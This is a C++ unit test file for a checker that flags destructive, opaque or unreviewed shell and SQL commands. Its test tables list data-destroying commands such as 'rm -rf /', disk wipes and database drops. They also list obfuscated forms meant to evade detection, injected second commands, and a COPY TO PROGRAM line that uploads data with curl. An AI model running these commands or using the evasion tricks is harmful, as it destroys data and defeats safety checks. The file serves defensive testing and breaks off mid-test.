#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <set>

#include "core/finding/judge.h"
#include "tests/unit/finding/plan_world.h"

namespace countersign::finding {
namespace {

using ::testing::Contains;
using ::testing::ElementsAre;
using ::testing::IsEmpty;
using ::testing::Not;
using v1::Finding;

using Arguments = std::vector<std::string>;

v1::Action Command(const Arguments& argv) {
  v1::Action action;
  action.set_kind(v1::COMMAND);
  for (const std::string& argument : argv) action.add_argv(argument);
  return action;
}

std::vector<std::string> CodesFor(const Arguments& argv) { return CodesOf(JudgeCommand(Command(argv))); }

TEST(JudgeCommandTest, FindsWhatDestroys) {
  const std::vector<Arguments> commands = {
      {"terraform", "destroy"},
      {"/usr/bin/terraform", "-chdir=x", "destroy", "-auto-approve"},
      {"terraform", "-chdir", "x", "destroy"},
      {"tofu", "apply", "-destroy"},
      {"terraform", "apply", "--destroy=true", "-auto-approve"},
      {"terraform", "state", "rm", "aws_vpc.main"},
      {"terragrunt", "run-all", "destroy"},
      {"aws", "--profile", "p", "rds", "delete-db-instance", "--skip-final-snapshot"},
      {"aws", "rds", "--region", "eu-west-1", "delete-db-instance"},
      {"aws", "s3", "rm", "--recursive", "s3://b"},
      {"aws", "s3", "sync", ".", "s3://b", "--delete"},
      {"aws", "kms", "schedule-key-deletion"},
      {"aws", "dynamodb", "delete-table"},
      {"gcloud", "--project", "p", "sql", "instances", "delete", "x"},
      {"gsutil", "-m", "rm", "-r", "gs://b"},
      {"az", "group", "delete", "-n", "x", "--yes"},
      {"kubectl", "-n", "x", "delete", "ns", "y"},
      {"kubectl", "--context=prod", "scale", "deploy/x", "--replicas=0"},
      {"helm", "-n", "x", "uninstall", "y"},
      {"psql", "-c", "DROP DATABASE courses"},
      {"psql", "-Atc", "truncate table a"},
      {"psql", "--command=delete from a"},
      {"psql", "-c", "DROP/**/TABLE a"},
      {"psql", "-c", "update a set b = 1"},
      {"mysql", "-eDROP TABLE a"},
      {"mysql", "--execute", "select 1; drop table a"},
      {"sqlite3", "a.db", "delete from a"},
      {"mongosh", "--eval", "db.dropDatabase()"},
      {"redis-cli", "-h", "x", "FLUSHALL"},
      {"dropdb", "courses"},
      {"rm", "-rf", "/"},
      {"dd", "if=/dev/zero", "of=/dev/sda"},
      {"mkfs.ext4", "/dev/sda1"},
      {"find", ".", "-delete"},
      {"find", ".", "-exec", "rm", "{}", ";"},
      {"docker", "volume", "rm", "x"},
      {"docker", "compose", "down", "-v"},
      {"git", "-C", "d", "push", "--force"},
      {"git", "push", "origin", "+main"},
      {"git", "push", "-uf", "origin", "main"},
      {"git", "reset", "--hard", "HEAD~1"},
      {"git", "branch", "-D", "x"},
      {"heroku", "pg:reset", "-a", "x"},
      {"restic", "forget", "--prune"},
      {"curl", "-XDELETE", "https://x"},
      {"curl", "-X", "DELETE", "https://x"},
      {"aws-nuke", "run"},
  };
  for (const Arguments& argv : commands) {
    EXPECT_THAT(CodesFor(argv), Contains("destructive-command")) << testing::PrintToString(argv);
  }
}

TEST(JudgeCommandTest, SeesThroughWhatRunsOtherPrograms) {
  const std::vector<Arguments> commands = {
      {"sudo", "-u", "root", "-E", "rm", "x"},
      {"env", "-i", "A=b", "terraform", "destroy"},
      {"env", "-S", "rm -rf x"},
      {"env", "--split-string=rm -rf x"},
      {"time", "nice", "-n", "5", "nohup", "dropdb", "x"},
      {"nice", "-n5", "dropdb", "x"},
      {"timeout", "-k", "5", "10", "dropdb", "x"},
      {"xargs", "-0", "-n", "1", "rm"},
      {"sh", "-c", "terraform destroy"},
      {"/bin/bash", "-euo", "pipefail", "-c", "cd x && terraform destroy"},
      {"bash", "-lc", "echo $(dropdb x)"},
      {"bash", "-c", "echo \"`dropdb x`\""},
      {"sh", "-c", "if true; then rm x; fi"},
      {"sh", "-c", "(cd x; { rm y; })"},
      {"sh", "-c", "A=b rm x"},
      {"sh", "-c", "r\\m x"},
      {"sh", "-c", "'rm' x"},
      {"sh", "-c", "eval 'rm x'"},
      {"sh", "-c", "sh -c 'sh -c \"rm x\"'"},
      {"su", "-", "postgres", "-c", "dropdb x"},
      {"su", "-c", "dropdb x", "postgres"},
      {"ssh", "-i", "key", "host", "dropdb", "x"},
      {"ssh", "host", "cd /; rm -rf x"},
      {"kubectl", "exec", "pod", "--", "psql", "-c", "DROP TABLE a"},
      {"busybox", "rm", "x"},
      {"flock", "/tmp/lock", "rm", "x"},
      {"script", "true", "-qc", "dropdb x"},
      {"script", "-t", "-c", "dropdb x", "true"},
      {"script", "-qcdropdb x", "true"},
      {"timeout", "5", "script", "true", "-qc", "dropdb x"},
      {"bash", "-c", "script true -qc 'dropdb x'"},
      {"su", "postgres", "true", "-c", "dropdb x"},
      {"su", "postgres", "--", "true", "-c", "dropdb x"},
      {"su", "postgres", "--comm=dropdb x"},
      {"runuser", "postgres", "true", "-c", "dropdb x"},
      {"nix-shell", "x.nix", "--run", "dropdb x"},
      {"setsid", "-f", "rm", "true", "-rf", "/srv/data"},
      {"taskset", "1", "rm", "-rf", "x"},
      {"taskset", "-c", "0-3", "rm", "-rf", "x"},
      {"chrt", "-f", "50", "rm", "-rf", "x"},
      {"exec", "-a", "x", "rm", "-rf", "y"},
      {"time", "-f", "%e", "rm", "-rf", "y"},
      {"env", "x-y=1", "rm", "-rf", "x"},
      {"env", "--", "A=b", "rm", "-rf", "x"},
      {"timeout", "--", "5", "rm", "-rf", "x"},
      {"sudo", "--command-timeout", "60", "rm", "-rf", "x"},
      {"sudo", "--frob", "60", "--frob", "x", "rm", "-rf", "x"},
      {"xargs", "--replace", "rm", "-rf"},
      {"find", ".", "-exec", "ls", "{}", "+", "-exec", "rm", "{}", "+"},
  };
  for (const Arguments& argv : commands) {
    EXPECT_THAT(CodesFor(argv), Contains("destructive-command")) << testing::PrintToString(argv);
  }
}

TEST(JudgeCommandTest, FindsNothingInWhatOnlyReads) {
  const std::vector<Arguments> commands = {
      {"ls", "-l"},
      {"/bin/ls"},
      {"terraform", "state", "list"},
      {"terraform", "output", "-json"},
      {"terraform", "workspace", "show"},
      {"tofu", "version"},
      {"terraform", "--version"},
      {"kubectl", "-n", "x", "get", "pods"},
      {"aws", "--profile", "p", "rds", "describe-db-instances"},
      {"aws", "s3", "ls"},
      {"gcloud", "sql", "instances", "list"},
      {"az", "group", "list"},
      {"helm", "list", "-A"},
      {"psql", "-d", "x", "-c", "SELECT count(*) FROM a"},
      {"psql", "-c", "\\dt"},
      {"git", "-C", "d", "log", "--oneline"},
      {"docker", "ps", "-a"},
      {"redis-cli", "info"},
      {"nice", "ls"},
      {"sh", "-c", "cd x && ls | grep y"},
      {"env", "A=b", "ls"},
      {"ls", "-laR", "--color=never"},
      {"find", ".", "-name", "*.tf", "-type", "f"},
      {"git", "diff", "--stat", "HEAD~1"},
      {"git", "log", "-5", "--format=%h"},
      {"psql", "-h", "h", "-Upostgres", "-X", "-Atc", "SELECT 1"},
      {"psql", "-At", "--command=SELECT 1", "courses"},
      {"mysql", "-u", "root", "-Ne", "SELECT 1"},
      {"kubectl", "get", "pods", "-n", "x", "-o", "wide", "--no-headers"},
      {"sort", "-k", "2", "-rn", "x"},
      {"sh", "-c", "[ -f x ] && test -n y"},
      {"bash", "-c", "grep '[a-z]*' \"x y\""},
  };
  for (const Arguments& argv : commands) {
    EXPECT_THAT(CodesFor(argv), IsEmpty()) << testing::PrintToString(argv);
  }
}

TEST(JudgeCommandTest, CallsOpaqueWhatItDoesNotKnow) {
  const std::vector<Arguments> commands = {
      {"frobnicate"},
      {"./ls"},
      {"/tmp/kubectl", "get", "pods"},
      {"python3", "x.py"},
      {"bash", "x.sh"},
      {"sh"},
      {"sh", "-c", "$X"},
      {"sh", "-c", "ls > x"},
      {"sh", "-c", "ls 'x"},
      {"sh", "-c", ""},
      {"sudo"},
      {"sudo", "-Z", "ls"},
      {"kubectl", "frobnicate"},
      {"kubectl", "apply", "-f", "x"},
      {"helm", "upgrade", "x", "y"},
      {"psql", "courses"},
      {"psql", "-f", "x.sql"},
      {"psql", "-c", "SELECT pg_terminate_backend(1)"},
      {"psql", "-c", "\\! sh"},
      {"aws", "secretsmanager", "get-secret-value"},
      {"curl", "https://x"},
      {"docker", "run", "x"},
      {"npm", "run", "deploy"},
      {"make"},
      {""},
      {},
  };
  for (const Arguments& argv : commands) {
    const std::vector<Finding> findings = JudgeCommand(Command(argv));
    ASSERT_THAT(CodesOf(findings), Contains("opaque-command")) << testing::PrintToString(argv);
    for (const Finding& finding : findings) EXPECT_GE(finding.severity(), Finding::WARNING);
  }
}

TEST(JudgeCommandTest, WantsPlansToBeSaved) {
  for (const Arguments& argv : std::vector<Arguments>{{"terraform", "apply"},
                                                      {"terraform", "apply", "-auto-approve"},
                                                      {"terraform", "-chdir=x", "apply", "-var", "a=b"},
                                                      {"terraform", "apply", "-target", "aws_vpc.v"},
                                                      {"terraform", "destroy"},
                                                      {"tofu", "apply", "-destroy"},
                                                      {"terragrunt", "apply"},
                                                      {"terragrunt", "run-all", "apply"},
                                                      {"terragrunt", "run", "--all", "apply"},
                                                      {"script", "true", "-qc", "terraform destroy"},
                                                      {"sudo", "terraform", "apply"}}) {
    EXPECT_THAT(CodesFor(argv), Contains("unsaved-plan")) << testing::PrintToString(argv);
  }
  for (const Arguments& argv : std::vector<Arguments>{{"terraform", "plan"}, {"terraform", "plan", "p"}}) {
    EXPECT_THAT(CodesFor(argv), ElementsAre("opaque-command")) << testing::PrintToString(argv);
  }
}

TEST(JudgeCommandTest, TakesNoOptionThatItDoesNotKnowForHarmless) {
  for (const Arguments& argv : std::vector<Arguments>{
           {"psql", "-o", "|sh -c \"id > F\"", "-c", "select 1"},
           {"psql", "--output=|sh", "-c", "select 1"},
           {"psql", "--outp=|sh", "-c", "select 1"},
           {"psql", "-Ato|sh", "-c", "select 1"},
           {"psql", "-L", "x", "-c", "select 1"},
           {"psql", "-d", "service=other", "-c", "select 1"},
           {"psql", "-c", "\\lo_export 1 x"},
           {"psql", "-c", "\\dt `touch x`"},
           {"mysql", "--pager=PROG", "-e", "select 1"},
           {"mysql", "--pag=PROG", "-e", "select 1"},
           {"mysql", "--tee", "x", "-e", "select 1"},
           {"sqlite3", "a.db", ".shell"},
           {"git", "-C", "R", "--config-env=core.fsmonitor=X", "status"},
           {"git", "--config-e=core.fsmonitor=X", "status"},
           {"git", "-c", "core.fsmonitor=x", "status"},
           {"git", "--exec-path=x", "status"},
           {"git", "--git-dir", "x", "status"},
           {"git", "grep", "-Osh", "x"},
           {"git", "diff", "--ext-diff"},
           {"git", "log", "--output=x"},
           {"git", "-C", "--ext-diff", "log"},
           {"kubectl", "--kubeconfig", "evil.yaml", "get", "pods"},
           {"kubectl", "--kubeconfig=evil.yaml", "get", "pods"},
           {"kubectl", "-s", "https://other", "get", "pods"},
           {"kubectl", "get", "--frobnicate", "pods"},
           {"helm", "template", ".", "--post-renderer", "sh"},
           {"helm", "list", "--kubeconfig=x"},
           {"sort", "--compress-program=PROG"},
           {"sort", "--compress-prog=PROG"},
           {"rg", "--pre", "sh", "x"},
           {"find", ".", "-fprint0", "x"},
           {"aws", "ec2", "describe-instances", "--frobnicate"},
           {"aws", "--endpoint-url", "https://other", "s3", "ls"},
           {"terraform", "output", "-frobnicate"},
           {"git", "remote", "set-url", "origin", "other"},
           {"git", "branch", "-m", "x"},
           {"git", "ls-remote", "ext::sh -c x"},
           {"docker", "-H", "tcp://other", "ps"},
           {"hostname", "x"},
           {"date", "01010000"},
           {"uniq", "a", "b"},
           {"time", "-o", "x", "ls"},
           {"su", "-s", "x", "-c", "ls"},
           {"xargs", "ls"},
           {"/tmp/env", "ls"},
           {"./sh", "-c", "ls"},
           {"zsh", "-c", "ls"},
           {"bash", "--rcfile", "x", "-ic", "ls"},
           {"sh", "-c", "sort *"},
           {"sh", "-c", "ls {a,b}"},
       }) {
    EXPECT_THAT(CodesFor(argv), Contains("opaque-command")) << testing::PrintToString(argv);
  }
}

TEST(JudgeCommandTest, ReadsOptionsAsTheirProgramsDo) {
  for (const Arguments& argv : std::vector<Arguments>{
           {"psql", "-h", "H", "-U", "postgres", "-d", "victim", "-Atcdrop table courses"},
           {"psql", "-qcdrop table a"},
           {"psql", "--comm=drop table a"},
           {"psql", "--comm", "drop table a"},
           {"psql", "-c", "-- x\ndrop table a"},
           {"mysql", "-BNedrop table a"},
           {"mysql", "--exec=drop table a"},
           {"sqlite3", "a.db", "select 1", "delete/**/from/**/a"},
           {"aws", "athena", "start-query-execution", "--query-string", "drop table x"},
           {"aws", "athena", "start-query-execution", "--query-str", "drop table x"},
           {"rsync", "-a", "--del", "a/", "b/"},
           {"rsync", "-a", "--delete-after", "a/", "b/"},
           {"rsync", "-a", "--dele", "a/", "b/"},
           {"rsync", "-a", "--remove-source-files", "a/", "b/"},
           {"rsync", "-a", "--remove-so", "a/", "b/"},
           {"git", "push", "--mir", "x"},
           {"git", "push", "--del", "origin", "main"},
           {"git", "push", "--forc", "origin"},
           {"git", "reset", "--har"},
           {"git", "clean", "--forc"},
           {"git", "branch", "-CD", "x"},
           {"git", "checkout", "."},
           {"date", "-s", "x"},
           {"aws", "ecs", "update-service", "--service", "x", "--desired-count", "0"},
           {"aws", "s3", "sync", ".", "s3://b", "--dele"},
       }) {
    EXPECT_THAT(CodesFor(argv), Contains("destructive-command")) << testing::PrintToString(argv);
  }
}

TEST(JudgeCommandTest, SeesThatProtectionIsTakenAway) {
  for (const Arguments& argv : std::vector<Arguments>{
           {"aws", "rds", "modify-db-instance", "--no-deletion-protection"},
           {"aws", "rds", "modify-db-instance", "--no-deletion-prot"},
           {"aws", "rds", "modify-db-instance", "--no-del"},
           {"aws", "rds", "modify-db-instance", "--backup-ret", "0"},
           {"aws", "rds", "modify-db-instance", "--backup-ret=0"},
           {"aws", "rds", "modify-db-cluster", "--backup-retention-period", "0"},
           {"aws", "ec2", "modify-instance-attribute", "--no-disable-api-termination"},
           {"aws", "ec2", "modify-instance-attribute", "--disable-api-termination", "Value=false"},
           {"aws", "dynamodb", "update-table", "--no-deletion-protection-enabled"},
           {"aws", "cognito-idp", "update-user-pool", "--deletion-protection", "INACTIVE"},
           {"aws", "elbv2", "modify-load-balancer-attributes", "--attributes",
            "Key=deletion_protection.enabled,Value=false"},
           {"aws", "s3api", "put-bucket-versioning", "--versioning-configuration", "Status=Suspended"},
           {"aws", "dynamodb", "update-continuous-backups", "--point-in-time-recovery-specification",
            "PointInTimeRecoveryEnabled=false"},
           {"aws", "redshift", "modify-cluster", "--automated-snapshot-retention-period", "0"},
           {"gcloud", "sql", "instances", "patch", "x", "--no-deletion-protection"},
           {"gcloud", "sql", "instances", "patch", "x", "--retained-backups-count=0"},
           {"az", "keyvault", "update", "--enable-purge-protection", "false"},
       }) {
    const std::vector<Finding> findings = JudgeCommand(Command(argv));
    ASSERT_THAT(CodesOf(findings), Contains("destructive-command")) << testing::PrintToString(argv);
    EXPECT_EQ(findings[0].severity(), Finding::CRITICAL) << testing::PrintToString(argv);
  }
  for (const Arguments& argv : std::vector<Arguments>{
           {"aws", "logs", "put-retention-policy", "--retention-in-days", "7"},
           {"aws", "iam", "update-access-key", "--access-key-id", "x", "--status", "Inactive"},
           {"aws", "s3api", "put-public-access-block", "--bucket", "x", "--x", "BlockPublicAcls=false"},
           {"aws", "rds", "modify-db-instance", "--cli-input-json", "file://x"},
           {"aws", "rds", "modify-db-instance", "--cli-input-y", "file://x"},
           {"aws", "s3api", "put-bucket-policy", "--policy", "file://x"},
       }) {
    const std::vector<Finding> findings = JudgeCommand(Command(argv));
    ASSERT_THAT(findings, Not(IsEmpty())) << testing::PrintToString(argv);
    EXPECT_GE(findings[0].severity(), Finding::HIGH) << testing::PrintToString(argv);
  }
}

TEST(JudgeCommandTest, FindsUnsavedPlansHoweverTheyAreWritten) {
  for (const Arguments& argv : std::vector<Arguments>{
           {"bash", "-c", "{terraform,destroy}"},
           {"bash", "-c", "echo $'it\\'s'; terraform destroy #'"},
           {"dash", "-c", "echo $'it\\'; terraform destroy #'"},
           {"bash", "-c", "$'\\x74erraform' destroy"},
           {"bash", "-c", "terraform $'\\x64estroy'"},
           {"bash", "-c", "terraform {destroy,}"},
           {"bash", "-c", "terraform d*"},
           {"bash", "-c", "/usr/local/bin/terrafor? destroy"},
           {"bash", "-c", "t[f] destroy -auto-approve"},
           {"bash", "-c", "/usr/local/bin/[t]erraform destroy"},
           {"bash", "-c", "/usr/*/bin/t*m destroy"},
           {"bash", "-c", "x=apply; terraform \"$x\" -auto-approve"},
           {"bash", "-c", "x=terraform; $x destroy"},
           {"bash", "-c", "x='terraform destroy'; ${x}"},
           {"bash", "-c", "x='. apply'; terraform -chdir=$x plan"},
           {"bash", "-c", "terraform $(echo destroy)"},
           {"bash", "-c", "$(echo terraform) destroy"},
           {"bash", "-c", "`echo terraform` destroy"},
           {"bash", "-c", "echo terraform destroy | sh"},
           {"bash", "-c", "cat <<'X'\nit's\nX\nterraform destroy #'"},
           {"bash", "-c", "trap 'terraform destroy' EXIT"},
           {"bash", "-c", "test -v 'a[$(terraform destroy -auto-approve >&2)]'"},
           {"bash", "-O", "extglob", "-c", "/usr/bin/terrafor@(m) destroy"},
           {"zsh", "-ic", "# x; terraform destroy"},
           {"terraform"},
           {"terraform", "frobnicate"},
           {"tf", "destroy", "-auto-approve"},
           {"tfenv", "exec", "destroy"},
           {"xargs", "terraform"},
           {"direnv", "exec", ".", "terraform", "destroy"},
           {"aws-vault", "exec", "p", "--", "terraform", "apply"},
           {"aws-vault", "exec", "p", "terraform", "apply"},
           {"chamber", "exec", "s", "--", "tofu", "destroy"},
           {"op", "run", "--", "terraform", "apply"},
           {"doppler", "run", "--command", "terraform apply"},
           {"dotenv", "run", "terraform", "apply"},
           {"nix-shell", "--run", "terraform destroy"},
           {"nix", "develop", "-c", "terraform", "destroy"},
           {"poetry", "run", "terraform", "apply"},
           {"npx", "terraform", "apply"},
           {"uv", "run", "terraform", "apply"},
           {"flock", "-F", "l", "terraform", "apply"},
           {"setsid", "--frob", "x", "terraform", "apply"},
           {"timeout", "5", "terraform", "apply"},
           {"stdbuf", "-oL", "terraform", "apply"},
           {"script", "-qc", "terraform apply", "x"},
           {"parallel", "terraform {} -auto-approve", ":::", "apply"},
           {"watch", "terraform", "apply"},
           {"ssh", "host", "terraform", "apply"},
           {"docker", "run", "hashicorp/terraform:1.5", "apply"},
           {"setpriv", "tf", "destroy", "-auto-approve"},
           {"setpriv", "/opt/terraform-1.11.4", "destroy", "-auto-approve"},
           {"setpriv", "terraform_1.5.0", "apply"},
           {"setpriv", "tofu-1.8", "apply"},
           {"python3", "-c", "os.execvp('terraform', ['terraform', 'apply'])"},
           {"frobnicate", "C:\\bin\\terraform.exe", "apply"},
       }) {
    EXPECT_THAT(CodesFor(argv), Contains("unsaved-plan")) << testing::PrintToString(argv);
  }
  for (const Arguments& argv : std::vector<Arguments>{
           {"terraform", "--version"},
           {"terraform", "-help"},
           {"git", "commit", "-m", "terraform apply"},
           {"grep", "-r", "terraform destroy", "."},
           {"bash", "-c", "terraform plan > x; grep apply x"},
           {"bash", "-c", "cd \"$D\" && terraform plan"},
           {"frobnicate", "terraform", "plan"},
           {"frobnicate", "tf", "plan"},
           {"frobnicate", "main.tf", "apply"},
       }) {
    EXPECT_THAT(CodesFor(argv), Not(Contains("unsaved-plan"))) << testing::PrintToString(argv);
  }
}

TEST(JudgeCommandTest, LetsASavedPlanHideNoOther) {
  const auto codes = [](const std::string& script) { return CodesFor({"bash", "-c", script}); };
  EXPECT_THAT(codes("echo \"$D\" && terraform apply p"), Not(Contains("unsaved-plan")));
  EXPECT_THAT(codes("terraform apply p; echo terraform destroy | sh"), Contains("unsaved-plan"));
  EXPECT_THAT(codes("terraform apply -var $'a' p; echo terraform destroy | sh"), Contains("unsaved-plan"));
}

TEST(JudgeCommandTest, SaysOfASavedPlanInACommandThatNobodyHasReadIt) {
  for (const Arguments& argv :
       std::vector<Arguments>{{"terraform", "apply", "p"},
                              {"terraform", "apply", "-input=false", "./p"},
                              {"terraform", "apply", "-auto-approve", "-lock-timeout", "5s", "p"},
                              {"/usr/bin/terraform", "-chdir=x", "apply", "p"},
                              {"terraform", "-chdir", "x", "apply", "p"},
                              {"tofu", "apply", "/tmp/p"},
                              {"terragrunt", "--working-dir=x", "apply", "p"},
                              {"sudo", "-u", "x", "terraform", "apply", "p"},
                              {"env", "-i", "A=b", "terraform", "apply", "p"},
                              {"env", "-C", "x", "terraform", "apply", "p"},
                              {"aws-vault", "exec", "x", "--", "terraform", "apply", "p"},
                              {"ssh", "host", "terraform", "apply", "p"},
                              {"kubectl", "exec", "x", "--", "terraform", "apply", "p"},
                              {"find", "x", "-execdir", "terraform", "apply", "p", ";"},
                              {"sh", "-c", "cd x && terraform apply p"},
                              {"sh", "-c", "sh -c 'terraform apply p'"},
                              {"su", "-", "x", "-c", "terraform apply p"},
                              {"script", "-qc", "terraform apply p"}}) {
    v1::Action action = Command(argv);
    const std::vector<Finding> elsewhere = JudgeCommand(action);
    ASSERT_THAT(CodesOf(elsewhere), Contains("unread-plan")) << testing::PrintToString(argv);
    EXPECT_EQ(elsewhere[0].severity(), Finding::CRITICAL) << testing::PrintToString(argv);
    action.add_artifacts()->set_file_name("p");
    EXPECT_EQ(CodesOf(JudgeCommand(action)), CodesOf(elsewhere)) << testing::PrintToString(argv);
  }
  EXPECT_THAT(CodesFor({"terraform", "apply", "p"}), ElementsAre("unread-plan"));
  EXPECT_THAT(CodesFor({"python3", "-c", "os.system('terraform apply p')"}), Contains("unsaved-plan"));
}

TEST(JudgeCommandTest, SaysThatPlanningRunsCode) {
  for (const Arguments& argv : std::vector<Arguments>{{"terraform", "plan", "-out", "p"},
                                                      {"terraform", "-chdir=x", "plan", "-destroy"},
                                                      {"terraform", "init"},
                                                      {"terraform", "validate"},
                                                      {"terraform", "show", "p"},
                                                      {"terraform", "state", "show", "a.b"},
                                                      {"terraform", "providers", "schema"},
                                                      {"terraform", "console"},
                                                      {"terraform", "import", "a.b", "c"},
                                                      {"terragrunt", "output"},
                                                      {"sh", "-c", "terraform init && terraform plan"}}) {
    EXPECT_THAT(CodesFor(argv), ElementsAre("opaque-command")) << testing::PrintToString(argv);
  }
}

TEST(JudgeCommandTest, KnowsBuiltinsThatRunTheirArguments) {
  for (const char* script :
       {"test -v 'a[$(id)]'", "[ -v 'a[x]' ]", "printf -v 'a[$(id)]' x", "read 'a[$(id)]'",
        "declare 'a[$(id)]=1'", "let 'a[$(id)]'", "[[ -v 'a[$(id)]' ]]", "wait -p 'a[x]'", "unset 'a[$(id)]'",
        "test 'a[$(id)]' -eq 1"}) {
    const std::vector<Finding> findings = JudgeCommand(Command({"bash", "-c", script}));
    ASSERT_THAT(CodesOf(findings), ElementsAre("opaque-command")) << script;
    EXPECT_EQ(findings[0].severity(), Finding::HIGH) << script;
  }
}

TEST(JudgeCommandTest, TakesSqlFromElsewhereForAsOpaqueAsAFile) {
  for (const Arguments& argv : std::vector<Arguments>{{"psql", "-f", "x.sql"},
                                                      {"psql", "db"},
                                                      {"mysql", "db"},
                                                      {"sh", "-c", "cat x.sql | psql db"},
                                                      {"sh", "-c", "cat x.sql | mysql -u root db"},
                                                      {"sh", "-c", "cat x.sql | sqlite3 a.db"},
                                                      {"sh", "-c", "echo flushall | redis-cli"},
                                                      {"sh", "-c", "cat x | bq query"},
                                                      {"sh", "-c", "psql db <<X\nselect 1;\nX"}}) {
    const std::vector<Finding> findings = JudgeCommand(Command(argv));
    ASSERT_THAT(CodesOf(findings), ElementsAre("opaque-command")) << testing::PrintToString(argv);
    EXPECT_EQ(findings[0].severity(), Finding::HIGH) << testing::PrintToString(argv);
  }
}

// Of the findings of a command that runs SQL, the severity of the first.
Finding::Severity SeverityOfSql(const std::string& sql) {
  const std::vector<Finding> findings = JudgeCommand(Command({"psql", "-c", sql}));
  return findings.empty() ? Finding::SEVERITY_UNSPECIFIED : findings[0].severity();
}

TEST(JudgeCommandTest, SeesWhatSqlChangesHoweverItBegins) {
  for (const char* sql :
       {"EXPLAIN ANALYZE UPDATE t SET x = 0 WHERE id = 1", "EXPLAIN (ANALYZE) INSERT INTO t VALUES (1)",
        "WITH x AS (SELECT 1) UPDATE t SET x = 0 WHERE id = 1", "WITH x AS (SELECT 1) INSERT INTO t TABLE x",
        "SELECT 1 AS x INTO users_copy", "SELECT 1 /* */ INTO users_copy", "UPDATE t SET x = 0 WHERE id = 1",
        "SELECT 5 # 'x\n', 1 INTO t --'", "INSERT INTO t VALUES (1) ON CONFLICT (id) DO NOTHING",
        "CREATE OR REPLACE VIEW v AS SELECT 1", "SELECT replace(x, 'a', 'b') FROM t",
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET x = 0",
        "GRANT SELECT, UPDATE ON t TO x", "CREATE TRIGGER a BEFORE UPDATE ON t FOR EACH ROW SET NEW.x = 0",
        "UPDATE t SET x = '(' WHERE id = 1", "-- once\nUPDATE t SET x = 1 /* x */ WHERE id = 1",
        "UPDATE t SET x = 'it''s' WHERE id = 1"}) {
    const std::vector<Finding> findings = JudgeCommand(Command({"psql", "-c", sql}));
    ASSERT_THAT(findings, Not(IsEmpty())) << sql;
    EXPECT_THAT(CodesOf(findings), Not(Contains("destructive-command"))) << sql;
  }
  for (const char* sql : {"SELECT * FROM t WHERE action = 'update'", "SELECT * FROM t FOR UPDATE",
                          "SELECT * FROM t FOR NO KEY UPDATE", "EXPLAIN UPDATE t SET x = 0",
                          "SHOW CREATE TABLE t", "SELECT \"update\" FROM t"}) {
    EXPECT_EQ(SeverityOfSql(sql), Finding::SEVERITY_UNSPECIFIED) << sql;
  }
}

TEST(JudgeCommandTest, SeesThatSqlOverwritesRows) {
  for (const char* sql :
       {"REPLACE INTO t VALUES (1)", "replace t values (1)", "/* x */ REPLACE t VALUES (1)",
        "-- create or\nREPLACE t VALUES (1)", "INSERT OR REPLACE INTO t VALUES (1)",
        "WITH x AS (SELECT 1) REPLACE INTO t SELECT * FROM x", "CREATE OR REPLACE TABLE t (x int)",
        "INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE x = 0",
        "INSERT INTO t VALUES (1) ON DUPLICATE KEY /* for */ UPDATE x = 0",
        "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET x = 0",
        "INSERT INTO t VALUES (1) ON CONFLICT DO /* ' */ UPDATE SET x = 0 WHERE t.y = 1"}) {
    EXPECT_THAT(CodesFor({"mysql", "-e", sql}), Contains("destructive-command")) << sql;
    EXPECT_GE(SeverityOfSql(sql), Finding::HIGH) << sql;
  }
}

TEST(JudgeCommandTest, LetsNoCommentSayHowAStatementBegins) {
  for (const char* sql :
       {"/* show */ UPDATE t SET x = 0", "-- explain\nUPDATE t SET x = 0", "/* ; show */ UPDATE t SET x = 0",
        "/* show /* */ */ UPDATE t SET x = 0", "/* grant */ UPDATE ONLY (a.b) AS x SET x = 0",
        "/*!50000 UPDATE t SET x = 0 */ SHOW x"}) {
    EXPECT_EQ(SeverityOfSql(sql), Finding::CRITICAL) << sql;
  }
  for (const char* sql : {"/* show */ REPLACE INTO t VALUES (1)", "/* show */ ALTER SYSTEM SET x = 1",
                          "/*!ALTER USER x */ SHOW y", "/* ' */ system ls"}) {
    EXPECT_EQ(SeverityOfSql(sql), Finding::HIGH) << sql;
  }
  for (const char* sql : {"/* select */ FROBNICATE x", "/* it's show */ FROBNICATE x"}) {
    EXPECT_EQ(SeverityOfSql(sql), Finding::WARNING) << sql;
  }
  for (const char* sql :
       {"/* how many */ SELECT count(*) FROM t", "\n-- how many\nSELECT 1", "SELECT 1; -- two\nSHOW x"}) {
    EXPECT_EQ(SeverityOfSql(sql), Finding::SEVERITY_UNSPECIFIED) << sql;
  }
}

TEST(JudgeCommandTest, SeesThatCopyRunsPrograms) {
  for (const char* sql : {"COPY t TO PROGRAM 'curl -T - https://x'", "copy t from program 'cat x'",
                          "COPY (SELECT 1) TO /* x */ PROGRAM $$id$$"}) {
    EXPECT_THAT(CodesFor({"psql", "-c", sql}), ElementsAre("opaque-command")) << sql;
    EXPECT_EQ(SeverityOfSql(sql), Finding::HIGH) << sql;
  }
  EXPECT_EQ(SeverityOfSql("COPY t FROM '/srv/program.csv'"), Finding::WARNING);
}

TEST(JudgeCommandTest, TakesNoHiddenWhereForACondition) {
  for (const char* sql : {"UPDATE t SET x = 0 /* where */",
                          "UPDATE t SET x = 0 -- where",
                          "UPDATE t SET x = 0 # where",
                          "UPDATE t SET x = ' where '",
                          "UPDATE t SET x = $a$ where $a$",
                          "UPDATE t SET x = \"where\"",
                          "UPDATE t SET x = (SELECT 1 WHERE true)",
                          "WITH x AS (SELECT 1 WHERE true) UPDATE t SET x = 0",
                          "WITH x AS (UPDATE t SET x = 0 RETURNING 1) SELECT 1 WHERE true",
                          "WITH x AS (SELECT ';') UPDATE t SET x = ' where '",
                          "UPDATE t SET x = '\\' where 1 --'",
                          "WITH $a$ AS (SELECT 1) UPDATE t SET x = 0",
                          "UPDATE t SET x = 0 /* /* */ where */",
                          "UPDATE t SET x = 5--'\n where '",
                          "UPDATE t SET x = 5--/*\n where */",
                          "UPDATE t SET x = 5 # $$\n where $$",
                          "SELECT 1 AS key UPDATE t SET x = 0",
                          "CREATE TABLE a (b int) UPDATE dbo.t SET x = 0",
                          "EXPLAIN ANALYZE UPDATE t SET x = 0",
                          "WITH x AS (SELECT 1) DELETE FROM t"}) {
    EXPECT_EQ(SeverityOfSql(sql), Finding::CRITICAL) << sql;
  }
}

TEST(JudgeCommandTest, SeesCallsBehindCommentsAndQuotes) {
  for (const char* sql :
       {"SELECT pg_terminate_backend/**/(1)", "SELECT pg_terminate_backend -- x\n (1)",
